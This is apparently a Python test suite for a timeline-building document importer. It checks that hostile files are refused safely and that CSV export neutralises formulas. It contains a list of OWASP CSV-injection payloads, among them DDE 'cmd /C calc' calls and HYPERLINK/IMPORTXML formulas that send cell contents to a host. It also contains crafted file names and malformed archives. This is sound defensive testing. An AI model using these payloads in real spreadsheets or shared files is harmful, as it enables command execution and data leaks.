"""Files an analyst could be sent by an attacker: each one gets its own line, the batch goes on,
no connection is ever attempted and nothing outside the imported folder is read.

Every test here runs under a socket guard (any connect attempt fails the test), and imports into
a fresh SQLite project in the test's folder.
"""
import io
import os
import socket
import zipfile
from datetime import datetime, timezone

import documents
import pytest

from timeline.importer import MAX_MESSAGE, import_paths
from timeline.store.session import open_store

NOW = datetime(2026, 11, 23, tzinfo=timezone.utc)
ARTICLE = "The council met on March 3, 2021 to vote on the new budget. It passed by two votes."


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Fail on any attempt to open a connection (the attempt itself is what must never happen)."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network blocked by the test")

    monkeypatch.setattr(socket.socket, "connect", lambda self, *a: refuse(*a))
    monkeypatch.setattr(socket.socket, "connect_ex", lambda self, *a: refuse(*a))
    monkeypatch.setattr(socket, "create_connection", refuse)
    yield attempts
    assert attempts == [], f"connection attempted: {attempts}"


@pytest.fixture
def project(tmp_path):
    store = open_store(tmp_path / "project.sqlite")
    yield store
    store.close()


def _import(project, *paths):
    report = import_paths(project, paths, NOW)
    return {r.name: r for r in report.results}


def _url_page(words: str = ARTICLE) -> str:
    """A page whose text starts with a URL and has no space (tabs between the words): htmldate
    downloads such a string when it is given one."""
    body = words.replace(" ", "\t")
    return ("http://127.0.0.1:8765/beacon#<html><head><title>Budget</title><meta\tname=date\tcontent=2021-03-01>"
            f"</head><body><p>{body}</p>" + f"<p>{body}</p>" * 40 + "</body></html>")


def test_guard_catches_a_connection(no_network):
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", 9))
    no_network.clear()  # the guard itself works; nothing else tried


def test_web_page_and_mail_starting_with_a_url_are_read_without_network(project, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "page.html").write_text(_url_page())
    (folder / "html-only.eml").write_text("From: a@example.com\nSubject: Budget\nDate: Mon, 1 Mar 2021 10:00:00 +0000\n"
                                          "Content-Type: text/html\n\n" + _url_page())
    (folder / "multipart.eml").write_text(
        "From: a@example.com\nSubject: Budget\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=B\n\n"
        "--B\nContent-Type: text/html\n\n" + _url_page() + "\n--B--\n")
    results = _import(project, folder)
    assert {r.status for r in results.values()} == {"imported"}, results
    assert "2021-03-01" in results["page.html"].message  # the page's own metadata, not a fetched page


def test_a_reason_never_quotes_the_whole_file(project, tmp_path):
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"%PDF-1.4\n" + b"x" * 20_000)
    results = _import(project, bad)
    assert results["bad.pdf"].status == "failed"
    assert len(results["bad.pdf"].message) <= MAX_MESSAGE


# --- only regular files, nothing outside the folder ---------------------------------------------

def _stored_texts(project):
    from sqlalchemy import select

    from timeline.store.models import Document

    with project.session() as session:
        return [d.text for d in session.scalars(select(Document))]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="links, pipes and sockets as on POSIX")
def test_links_pipes_and_sockets_in_a_folder_get_a_line_each_and_are_not_read(project, tmp_path):
    secret = tmp_path / "outside.txt"
    secret.write_text("Secret words written on March 4, 2021 outside the imported folder.\n")
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "article.txt").write_text(ARTICLE)
    (folder / "to-outside.txt").symlink_to(secret)
    (folder / "to-zero.txt").symlink_to("/dev/zero")
    (folder / "to-article.txt").symlink_to(folder / "article.txt")  # inside, still a link
    (folder / "outside-folder").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(folder / "sub" / "pipe.txt")
    listener = socket.socket(socket.AF_UNIX)
    try:
        listener.bind(str(folder / "sub" / "sock"))
    except OSError:  # a path too long for a socket address: the rest still counts
        pass
    results = _import(project, folder)
    listener.close()
    assert results["article.txt"].status == "imported"
    refused = {name: r.message for name, r in results.items() if name != "article.txt"}
    assert set(refused) >= {"to-outside.txt", "to-zero.txt", "to-article.txt", "outside-folder", "pipe.txt"}
    assert all(message.startswith("not a regular file") for message in refused.values()), refused
    assert not any("Secret" in text for text in _stored_texts(project))


def test_a_device_named_on_its_own_is_refused_not_read(project):
    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero")
    results = _import(project, "/dev/zero")
    assert results["zero"].message == "not a regular file (a device); skipped"


def test_the_size_limit_holds_for_what_is_read(project, tmp_path):
    big = tmp_path / "big.txt"
    big.write_text(ARTICLE * 100)
    report = import_paths(project, [big], NOW, max_bytes=1000)
    assert report.results[0].status == "failed" and report.results[0].message.startswith("too large")


# --- CSV safe by construction -------------------------------------------------------------------

# The OWASP CSV-injection payloads, and the bypasses of a plain first-character check.
OWASP_AND_BYPASSES = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "\t=1+1", "\r=1+1", "\n-3+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"http://x/?v=\", A1), \"//a\")",
    "\r=1+1.txt", "-2021-03/1+cmd|' /C calc'!A0", "-2021-03/1+HYPERLINK(\"http://x\")", "＝1+1", "﹦1+1",
    "＋cmd|' /C calc'!A0", " =1+1", "\n=1+1", "\u200b=1+1", "\u3000=1+1", "  \t @SUM(A1)", "-1+1",
]
PLAIN = ["-12.5", "+3", "2022-01-30", "-0044-03-15", "-0044-03/-0043-01", "2021-03-01T10:00Z", "plain words",
         "1+1", "e-mail", "'=already quoted"]


def _formula_start(cell: str) -> bool:
    """What a spreadsheet would see: blanks and controls trimmed, full-width forms folded."""
    import unicodedata

    folded = unicodedata.normalize("NFKC", cell).lstrip("".join(map(chr, range(33))) + "\u200b\u3000 \u00a0")
    return folded[:1] in ("=", "+", "-", "@")


def test_no_csv_cell_reads_as_a_formula_and_every_row_parses_back():
    import csv
    import io

    from timeline.export.csv import safe_cell, write_csv

    cells = OWASP_AND_BYPASSES + PLAIN
    rows = [[str(n), safe_cell(cell), safe_cell("file " + cell)] for n, cell in enumerate(cells)]
    rows.append([str(len(cells)), safe_cell("\r=1+1.txt"), "end"])  # a file name with a CR
    out = io.StringIO()
    write_csv(out, rows, ["n", "cell", "name"])
    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert parsed[1:] == rows  # nothing split a row; CR and LF came back inside their cells
    for (_n, cell, _name), original in zip(parsed[1:], cells):
        if original in PLAIN:
            assert cell == original
        else:
            assert not _formula_start(cell) and cell == "'" + original, repr(cell)


@pytest.mark.skipif(os.name == "nt", reason="a CR in a file name")
def test_exported_csv_of_hostile_file_names_and_sentences_parses_back_without_formulas(project, tmp_path):
    import csv
    import io

    from timeline.export.csv import COLUMNS, event_rows, write_csv

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "\r=1+1.txt").write_text(ARTICLE)
    (folder / "＝1+1.txt").write_text("-2021-03/1+cmd|' /C calc'!A0 was filed on March 5, 2021 by the clerk.\n")
    results = _import(project, folder)
    assert {r.status for r in results.values()} == {"imported"}
    out = io.StringIO()
    with project.session() as session:
        write_csv(out, event_rows(session))
    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert all(len(row) == len(COLUMNS) for row in parsed) and len(parsed) > 2
    assert {row[COLUMNS.index("source")] for row in parsed[1:]} == {"'\r=1+1.txt", "'＝1+1.txt"}
    assert not any(_formula_start(cell) for row in parsed[1:] for cell in row)


# --- every reader behind the per-file boundary, with a plain reason ----------------------------

BODY = "The council met on March 3, 2021 to vote on the new budget.\n"
_MAIL_HEAD = "Subject: Budget\nDate: Mon, 1 Mar 2021 10:00:00 +0000\n"


def _zip(members, method=zipfile.ZIP_DEFLATED) -> bytearray:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return bytearray(out.getvalue())


def _patch_member(data: bytearray, name: str, central_offset: int, value: int, local_offset: int | None = None):
    """Set a 2-byte field of one member's central directory entry (and local header)."""
    at = 0
    while True:
        at = data.index(b"PK\x01\x02", at)
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if data[at + 46:at + 46 + length] == name.encode():
            break
        at += 4
    data[at + central_offset:at + central_offset + 2] = value.to_bytes(2, "little")
    if local_offset is not None:
        local = int.from_bytes(data[at + 42:at + 46], "little")
        data[local + local_offset:local + local_offset + 2] = value.to_bytes(2, "little")
    return bytes(data)


def _corrupt_deflate() -> bytes:
    data = _zip({"a.txt": BODY * 20})
    start = 30 + len("a.txt")
    data[start:start + 8] = b"\xff" * 8
    return bytes(data)


def _encrypted_pdf(handler: str = "AES-256") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(documents.pdf([[BODY]]))))
    writer.encrypt(user_password="", owner_password="owner", algorithm=handler)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _hostile_files() -> dict[str, bytes]:
    """Each file an attacker could send, by the name it is imported under."""
    docx = documents.docx([BODY])
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n" for i in range(5000))
    return {
        "good.txt": BODY.encode(),
        "from-a-at.eml": f"From: a@\n{_MAIL_HEAD}\n{BODY}".encode(),
        "from-bracket.eml": f"From: a@[xample.com\n{_MAIL_HEAD}\n{BODY}".encode(),
        "charset.eml": f"From: a@b.c\n{_MAIL_HEAD}Content-Type: text/plain; charset=x-no-such\n\n{BODY}".encode(),
        "offset.eml": f"From: a@b.c\nSubject: Budget\nDate: Mon, 1 Mar 2021 10:00:00 +99999999999999999999\n\n{BODY}"
                      .encode(),
        "nested.eml": f"From: a@b.c\n{_MAIL_HEAD}{nested}Content-Type: text/plain\n\n{BODY}".encode(),
        "forwarded.eml": (f"From: a@b.c\n{_MAIL_HEAD}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n"
                          f"--B\nContent-Type: message/rfc822\n\nFrom: c@d.e\nSubject: Inner\n\n{BODY}\n--B--\n").encode(),
        "corrupt-deflate.zip": _corrupt_deflate(),
        "version-9.9.zip": _patch_member(_zip({"a.txt": BODY}), "a.txt", 6, 99),
        "method-99.zip": _patch_member(_zip({"a.txt": BODY}), "a.txt", 10, 99, 8),
        "dot-dot.zip": bytes(_zip({"../escape.txt": BODY, "/absolute.txt": BODY, "inside.txt": BODY + "x"})),
        "method-99.docx": _patch_member(bytearray(docx), "word/document.xml", 10, 99, 8),
        "encrypted.docx": _patch_member(bytearray(docx), "word/document.xml", 8, 1),
        "office-encrypted.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024),
        "aes.pdf": _encrypted_pdf(),
        "pubsec.pdf": _encrypted_pdf("RC4-128").replace(b"/Standard", b"/Adobe.PubSec"),
        "unknown-filter.pdf": documents.pdf([[BODY]]).replace(b"/FlateDecode", b"/NoSuchDecode"),
        "fl.pdf": documents.pdf([[BODY]]).replace(b"/FlateDecode", b"/Fl"),
        "bad-creation-date.pdf": documents.pdf([[BODY + "x"]], creation="2021-99-99 garbage"),
        "utf32-bom.txt": (BODY + "y").encode("utf-32"),
        "utf32-le.txt": (BODY + "z").encode("utf-32-le"),
        "utf16-be.txt": (BODY + "w").encode("utf-16-be"),
    }


# name -> (status, words in the message)
EXPECTED = {
    "good.txt": ("imported", "dateline"),
    "from-a-at.eml": ("imported", "dateline"),  # a broken From header never costs the body
    "from-bracket.eml": ("imported", "dateline"),
    "charset.eml": ("failed", "e-mail with an unknown character set x-no-such"),
    "offset.eml": ("imported", "WARNING: the e-mail's Date header cannot be read"),
    "nested.eml": ("failed", "e-mail with 5,000 nested parts"),
    "forwarded.eml": ("opened", "1 file inside"),
    "forwarded.eml/forwarded-1.eml": ("imported", "dateline"),
    "corrupt-deflate.zip": ("opened", "0 files inside"),
    "corrupt-deflate.zip/a.txt": ("failed", "could not be unpacked: damaged compressed data"),
    "version-9.9.zip": ("failed", "newer zip format (version 9.9)"),
    "method-99.zip": ("opened", "0 files inside"),
    "method-99.zip/a.txt": ("failed", "unsupported method"),
    "dot-dot.zip": ("opened", "1 file inside"),
    "dot-dot.zip/../escape.txt": ("failed", "a name pointing outside the archive"),
    "dot-dot.zip/absolute.txt": ("failed", "a name pointing outside the archive"),
    "dot-dot.zip/inside.txt": ("imported", "dateline"),
    "method-99.docx": ("failed", "Word document that cannot be unpacked: compressed with an unsupported method"),
    "encrypted.docx": ("failed", "Word document that cannot be unpacked: encrypted"),
    "office-encrypted.docx": ("failed", "encrypted Office document"),
    "aes.pdf": ("imported", "dateline"),
    "pubsec.pdf": ("failed", "encrypted PDF that cannot be opened"),
    "unknown-filter.pdf": ("failed", "PDF page 1 cannot be decoded (NotImplementedError: Unsupported filter"),
    "fl.pdf": ("failed", "PDF page 1 cannot be decoded"),
    "bad-creation-date.pdf": ("imported", "dateline"),
    "utf32-bom.txt": ("imported", "dateline"),
    "utf32-le.txt": ("imported", "dateline"),
    "utf16-be.txt": ("imported", "dateline"),
}


def test_each_hostile_file_gets_its_one_line_and_the_batch_goes_on(project, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for name, content in _hostile_files().items():
        (folder / name).write_bytes(content)
    results = _import(project, folder)
    got = {name: (r.status, r.message) for name, r in results.items()}
    assert set(got) == set(EXPECTED)  # one line each: nothing dropped, nothing extra
    for name, (status, words) in EXPECTED.items():
        assert got[name][0] == status and words in got[name][1], (name, got[name])
    texts = _stored_texts(project)
    assert sum(BODY.strip() in text for text in texts) == EXPECTED_IMPORTED_WITH_BODY
    assert not any("\x00" in text for text in texts)  # UTF-16/32 decoded, not NUL-interleaved


EXPECTED_IMPORTED_WITH_BODY = sum(status == "imported" for status, _ in EXPECTED.values())


# --- the project itself: disk full, damaged pages ------------------------------------------------

def test_a_full_disk_stops_the_batch_with_a_plain_line(project, tmp_path):
    from sqlalchemy import event

    folder = tmp_path / "in"
    folder.mkdir()
    for n in range(3):
        (folder / f"{n}.txt").write_text(f"{n} " + BODY * 200)
    with project.engine.connect() as connection:
        pages = connection.exec_driver_sql("PRAGMA page_count").scalar()
    event.listen(project.engine, "connect",
                 lambda dbapi, _record: dbapi.execute(f"PRAGMA max_page_count = {pages + 2}"))
    project.engine.dispose()
    report = import_paths(project, [folder], NOW)
    assert [r.status for r in report.results] == ["failed"]
    assert report.results[0].message.startswith("the disk is full")
    assert "stopped: the disk is full" in report.summary()


def test_damaged_project_pages_give_a_plain_message_not_a_traceback(tmp_path):
    import subprocess
    import sys

    from conftest import ROOT

    db = tmp_path / "damaged.sqlite"
    store = open_store(db)
    import_paths(store, [_write(tmp_path / "a.txt", BODY * 300)], NOW)
    with store.engine.connect() as connection:
        connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    store.close()
    data = bytearray(db.read_bytes())
    data[-4096 * 3:] = b"\xa5" * (4096 * 3)  # the last pages (text, mentions): found after opening
    db.write_bytes(bytes(data))
    run = subprocess.run([sys.executable, str(ROOT / "main.py"), "export", "--db", str(db), "--csv", "-"],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 2 and "Traceback" not in run.stderr, run.stderr
    assert "the project file is damaged" in run.stderr, run.stderr


def _write(path, text):
    path.write_text(text)
    return path


# --- budgets: each with its own refusal (limits scaled down so that the files stay small) --------

def test_budgets_refuse_with_a_plain_line(project, tmp_path, monkeypatch):
    from timeline.readers import archive, mail, pdf, webpage

    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 20_000)
    monkeypatch.setattr(archive, "MAX_MEMBERS", 5)
    monkeypatch.setattr(mail, "MAX_ATTACHMENTS", 2)
    monkeypatch.setattr(pdf, "MAX_PAGES", 2)
    monkeypatch.setattr(webpage, "MAX_TAGS", 50)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "inflates.zip").write_bytes(documents.zipped({f"{n}.txt": b"x" * 9_000 for n in range(3)}))
    (folder / "members.zip").write_bytes(documents.zipped({f"{n}.txt": BODY.encode() for n in range(6)}))
    (folder / "pages.pdf").write_bytes(documents.pdf([[BODY]] * 3))
    (folder / "tags.html").write_text("<html><body>" + "<p>" * 60 + BODY + "</body></html>")
    attachments = tuple((f"{n}.txt", f"{n} {BODY}".encode(), "text/plain") for n in range(4))
    (folder / "attached.eml").write_bytes(documents.eml(["Budget", BODY], attachments=attachments))
    results = _import(project, folder)
    assert results["inflates.zip"].message == "zip archive inflating to 26 KB (the limit is 20 KB): not read"
    assert results["members.zip"].message == "zip archive with 6 files (the limit is 5)"
    assert results["pages.pdf"].message == "PDF with 3 pages (the limit is 2): not read"
    assert results["tags.html"].message == "web page with 64 tags (the limit is 50): not read"
    assert results["attached.eml/attachments 3-4"].message == "not read: the limit is 2 attachments per e-mail"
    assert [results[f"attached.eml/{n}.txt"].status for n in (0, 1)] == ["imported", "imported"]


def test_a_word_document_inflating_past_its_budget_is_refused_and_reads_stop_at_the_directory(project, tmp_path,
                                                                                           monkeypatch):
    from timeline.readers import word

    small = documents.docx([BODY])
    with zipfile.ZipFile(io.BytesIO(small)) as archive:  # python-docx's own template: 800 KB of styles
        template = sum(m.file_size for m in archive.infolist() if m.filename.endswith((".xml", ".rels")))
    monkeypatch.setattr(word, "MAX_XML_BYTES", template + 20_480)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "small.docx").write_bytes(small)
    (folder / "inflates.docx").write_bytes(documents.docx([f"{n} {BODY}" for n in range(400)]))
    lying = _patch_member(bytearray(documents.docx([BODY] * 40)), "word/document.xml", 24, 100)
    (folder / "lying.docx").write_bytes(_patch_member(bytearray(lying), "word/document.xml", 26, 0))
    results = _import(project, folder)
    assert results["small.docx"].status == "imported"
    message = results["inflates.docx"].message
    assert message.startswith("Word document whose XML inflates to ") and "word/document.xml" in message
    assert message.endswith(f"the limit is {(template + 20_480) / 1024:,.0f} KB): not read")
    assert results["inflates.docx"].status == "failed"
    # the directory says 100 bytes: the read stops there and the checksum says the part is damaged
    assert results["lying.docx"].status == "failed"
    assert results["lying.docx"].message.startswith("Word document that cannot be unpacked: Bad CRC-32")


# --- crash safety ------------------------------------------------------------------------------

_POOL_SCRIPT = """
import multiprocessing, sys, time
from concurrent.futures import ProcessPoolExecutor
sys.path.insert(0, sys.argv[1])
from timeline.lifeline import die_with_parent
if __name__ == "__main__":
    pool = ProcessPoolExecutor(2, mp_context=multiprocessing.get_context("spawn"), initializer=die_with_parent)
    for done in [pool.submit(time.sleep, 0.3) for _ in range(2)]:
        done.result()
    print(" ".join(map(str, pool._processes)), flush=True)
    time.sleep(60)
"""


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/status") as status:
            return "\nState:\tZ" not in status.read()  # a zombie has exited
    except FileNotFoundError:
        return False


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="reads /proc")
def test_pool_workers_die_with_their_parent(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    from conftest import ROOT

    script = tmp_path / "pool.py"
    script.write_text(_POOL_SCRIPT)
    parent = subprocess.Popen([sys.executable, str(script), str(ROOT)], stdout=subprocess.PIPE, text=True)
    workers = [int(pid) for pid in parent.stdout.readline().split()]
    assert len(workers) == 2 and all(map(_alive, workers))
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 10
    while any(map(_alive, workers)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(map(_alive, workers)), "orphaned pool workers"


_KILLED_REBUILD = """
import importlib, os, signal, sys
from datetime import datetime, timezone
sys.path.insert(0, sys.argv[1])
module = importlib.import_module("timeline.review.rebuild")
from timeline.store.session import open_store

def killed(*args, **kwargs):  # the documents are committed; the review is not (yet) written
    os.kill(os.getpid(), signal.SIGKILL)

setattr(module, sys.argv[4], killed)  # write_review: inside the rebuild; review_store: between import and review
module.import_and_review(open_store(sys.argv[2]), [sys.argv[3]], datetime(2026, 11, 23, tzinfo=timezone.utc))
"""


@pytest.mark.parametrize("killed_in", ["write_review", "review_store"])
def test_a_rebuild_killed_half_way_is_redone_on_open_and_on_reimport(tmp_path, killed_in):
    import subprocess
    import sys

    from sqlalchemy import func, select

    from conftest import ROOT
    from timeline.review import import_and_review
    from timeline.review.freshness import ensure_review
    from timeline.store.models import Happening

    folder = tmp_path / "in"
    folder.mkdir()
    for n in range(2):  # two agencies' copies of one story: their events merge into happenings
        (folder / f"{n}.txt").write_text("\n\n".join(documents.ARTICLE) + f"\n\nCopy {n}.\n")
    db, script = tmp_path / "p.sqlite", tmp_path / "killed.py"
    script.write_text(_KILLED_REBUILD)
    run = subprocess.run([sys.executable, str(script), str(ROOT), str(db), str(folder), killed_in],
                         capture_output=True, text=True)
    assert run.returncode == -9, run.stderr

    def happenings(store):
        with store.session() as session:
            return session.scalar(select(func.count()).select_from(Happening))

    store = open_store(db)
    assert happenings(store) == 0  # the documents were stored, their review never was
    report, summary = import_and_review(store, [folder], NOW)  # nothing new: still rebuilt
    assert report.count("duplicate") == 2 and summary.happenings > 0 and happenings(store) == summary.happenings
    assert ensure_review(store) is False  # current now: opening again does not rebuild
    store.close()
    # the same crash again, and this time the project is only opened (as the window and the CLI do)
    db.unlink()
    subprocess.run([sys.executable, str(script), str(ROOT), str(db), str(folder), killed_in], capture_output=True)
    store = open_store(db)
    assert happenings(store) == 0 and ensure_review(store) is True and happenings(store) == summary.happenings
    store.close()


def test_an_undo_left_without_its_rebuild_makes_the_review_stale(tmp_path):
    """An undo changes a decision's state in place (the counts stay): the stamp still tells."""
    from timeline.review.freshness import data_state
    from timeline.store.models import Decision

    store = open_store(tmp_path / "p.sqlite")
    with store.session() as session, session.begin():
        session.add_all(Decision(action="dismiss", payload="{}", summary="s", user="u", at="2026-01-01")
                        for _ in range(2))
    with store.session() as session, session.begin():
        before = data_state(session)
        session.get(Decision, 2).state = "undone"
        session.flush()
        undone = data_state(session)
        session.get(Decision, 2).state = "active"
        session.flush()
        assert before != undone and data_state(session) == before
    store.close()


# --- dates: BCE day numbers, impossible datelines -------------------------------------------------

def test_every_day_from_9999_bce_to_9999_round_trips():
    """civil(day_number(y, m, d)) == (y, m, d) for every day in years -9999..9999, and the day
    numbers of consecutive days are consecutive (numpy: the functions are branch-free)."""
    import numpy as np

    from timeline import calendar as cal

    years = np.arange(-9999, 10000, dtype=np.int32).reshape(-1, 1, 1)  # int32: half the memory traffic
    months = np.arange(1, 13, dtype=np.int32).reshape(1, -1, 1)
    days = np.arange(1, 32, dtype=np.int32).reshape(1, 1, -1)
    leap = (years % 4 == 0) & ((years % 100 != 0) | (years % 400 == 0))
    lengths = np.array([31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]).reshape(1, -1, 1) + (leap & (months == 2))
    y, m, d = (np.broadcast_to(a, (years.size, 12, 31))[days <= lengths] for a in (years, months, days))
    numbers = cal.day_number(y, m, d)
    assert (np.diff(numbers) == 1).all() and cal.day_number(1970, 1, 1) == 0
    back = cal.civil_of_day(numbers)
    assert all((got == want).all() for got, want in zip(back, (y, m, d)))
    assert cal.civil(cal.day_number(-4, 3, 1)) == (-4, 3, 1)  # was (-4, 2, 30)


@pytest.mark.parametrize("top,why", [
    ("date 0000-00-00", "'date 0000-00-00' is not a date: there is no month 0"),
    ("2021-02-31", "'2021-02-31' is not a date: February 2021 has 28 days"),
    ("February 31, 2021", "'February 31, 2021' is not a date: February 2021 has 28 days"),
    ("LONDON, Feb 29, 2021 (Wire) -", "'Feb 29, 2021' is not a date: February 2021 has 28 days"),
    ("2021-13-45", ""),  # not even read as a date
])
def test_impossible_datelines_are_rejected_with_a_reason(top, why):
    from timeline.dateline import find_dateline

    found = find_dateline(f"{top}\n\nThe council met on Tuesday to vote on the budget.\n", NOW)
    assert found.fallback and found.iso == "2026-11-23"
    assert found.reason.endswith(f"; rejected: {why}" if why else "(low confidence)"), found.reason


def test_the_import_line_says_why_a_dateline_was_rejected(project, tmp_path):
    (tmp_path / "feb31.txt").write_text("February 31, 2021\n\nThe council met on Tuesday to vote on the budget.\n")
    line = _import(project, tmp_path / "feb31.txt")["feb31.txt"].message
    assert "WARNING: no dateline in the text ('February 31, 2021' is not a date: February 2021 has 28 days)" in line


# --- foreign and read-only projects ------------------------------------------------------------

def test_another_applications_sqlite_file_is_refused_before_anything_is_written(tmp_path):
    import sqlite3

    from timeline.store.session import ProjectError

    foreign = tmp_path / "contacts.sqlite"
    with sqlite3.connect(foreign) as db:
        db.execute("CREATE TABLE people (name TEXT)")
        db.execute("INSERT INTO people VALUES ('Ada')")
    before = foreign.read_bytes()
    with pytest.raises(ProjectError, match="another application"):
        open_store(foreign)
    assert foreign.read_bytes() == before  # no tables of ours, no switch to WAL
    assert not (tmp_path / "contacts.sqlite-wal").exists()


def test_a_read_only_project_is_browsed_and_exported_as_it_is(tmp_path, monkeypatch):
    from timeline.export.csv import event_rows
    from timeline.review import import_and_review
    from timeline.review.freshness import ensure_review
    from timeline.store.queries import load_timeline

    db = tmp_path / "p.sqlite"
    store = open_store(db)
    import_and_review(store, [_write(tmp_path / "a.txt", ARTICLE)], NOW)
    store.close()
    monkeypatch.setattr(os, "access", lambda path, mode: mode != os.W_OK)  # as for a user without write rights
    before = db.read_bytes()
    store = open_store(db)
    assert store.read_only
    assert len(load_timeline(store).ids) > 0 and ensure_review(store) is False
    with store.session() as session:
        assert event_rows(session)
    report = import_paths(store, [_write(tmp_path / "b.txt", ARTICLE + " Again.")], NOW)
    assert report.results[0].message.startswith("the project is read-only")
    store.close()
    assert db.read_bytes() == before
